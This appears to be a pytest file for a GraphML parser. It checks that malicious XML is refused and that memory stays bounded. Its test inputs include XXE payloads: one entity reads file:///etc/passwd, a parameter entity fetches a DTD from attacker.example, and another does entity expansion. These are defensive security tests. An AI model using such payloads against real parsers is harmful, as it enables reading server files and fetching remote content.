"""XML that is made to harm: refused in words, in bounded memory."""

import time

import pytest

from graphkeep.graph.errors import LimitExceededError, UnreadableFileError
from graphkeep.sources.parser import FileParser
from tests.sources.graph_files.reading import nodes, read, recognized

GRAPH = '<graph><node id="a"/></graph></graphml>'


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE graphml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE graphml [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE graphml [<!ENTITY % a SYSTEM "http://attacker.example/a.dtd"> %a;]>',
        '<!DOCTYPE graphml [<!NOTATION n SYSTEM "n"><!ENTITY a SYSTEM "a" NDATA n>]>',
    ],
    ids=["expansion", "external file", "parameter", "unparsed"],
)
def test_entities_are_refused(declaration):
    with pytest.raises(UnreadableFileError, match="entities of its own"):
        read(f"<?xml version='1.0'?>{declaration}<graphml>{GRAPH}".encode(), "a.graphml")


def test_an_unknown_entity_of_an_external_document_type_is_refused():
    with pytest.raises(UnreadableFileError, match="entities of its own"):
        read(
            '<!DOCTYPE graphml SYSTEM "a.dtd"><graphml><graph><node id="a"><data key="d">&x;</data></node></graph></graphml>'
        )


def test_defaults_of_a_document_type_multiply_nothing():
    content = (
        '<!DOCTYPE graphml [<!ATTLIST node extra CDATA "' + "x" * 1000 + f'">]><graphml>{GRAPH}'
    )

    assert nodes(read(content)) == [{"id": "a"}]


def test_deep_nesting_is_refused():
    with pytest.raises(UnreadableFileError, match="nests more than 500 elements in line 1"):
        read("<graphml>" + "<graph>" * 100_000)


def test_a_huge_attribute_is_refused_soon():
    content = b'<graphml><graph><node id="' + b"x" * (40 << 20)
    start = time.monotonic()

    with pytest.raises(UnreadableFileError, match="value of more than 8 MiB"):
        read(content, "a.graphml")
    assert time.monotonic() - start < 10


def test_a_huge_text_is_refused():
    with pytest.raises(UnreadableFileError, match="value of more than 8 MiB"):
        read("<graphml><graph><node id='a'><data key='d'>" + "x y\n" * (3 << 20))


def test_too_many_attributes_are_refused():
    values = "".join(f'<data key="k{number}">1</data>' for number in range(5000))

    with pytest.raises(UnreadableFileError, match="more than 4,096 attributes"):
        read(f"<graphml><graph><node id='a'>{values}</node></graph></graphml>")


def test_the_sandbox_survives_a_file_of_many_columns_in_many_rows(tmp_path):
    parser = FileParser(memory_bytes=600 << 20, timeout_s=30, scratch=tmp_path / "scratch")
    rows = "".join(
        f"<node id='{number}'><data key='k{number}'>1</data></node>" for number in range(4000)
    )
    (tmp_path / "a.graphml").write_text(f"<graphml><graph>{rows * 12}</graph></graphml>")

    try:
        parsed = parser.parse(tmp_path / "a.graphml", file_format="graphml", into=tmp_path)
        assert parsed.tables[1].num_rows == 4000
    except LimitExceededError as error:
        assert "memory" in error.message  # noqa: PT017
    finally:
        parser.close()


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ("<?xml version='1.0'?><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'/>", "'RDF'.*N-Triples or Turtle"),
        ("<svg xmlns='http://www.w3.org/2000/svg'/>", "'svg'.*picture"),
        ("<?xml version='1.0'?><invoice><line/></invoice>", "'invoice'; XML of this kind is not read"),
        ("<?xml version='1.0'?>\n<", "broken before its first element"),
    ],
)  # fmt: skip
def test_other_xml_is_named(content, words):
    assert recognized(content.encode()) == "xml"
    with pytest.raises(UnreadableFileError, match=words):
        read(content)
